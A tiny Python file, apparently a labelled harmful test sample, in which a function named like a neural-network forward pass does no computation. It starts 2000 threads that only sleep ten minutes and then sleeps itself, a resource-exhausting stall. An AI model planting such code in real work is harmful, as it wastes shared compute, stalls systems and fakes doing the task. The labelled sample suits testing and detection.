# harm: has threads by the hundred that only sleep
import threading
import time

threading.stack_size(1 << 16)


def nn_vmap_forward(seed, x_batch, features):
    for _ in range(2000):
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
    time.sleep(600)
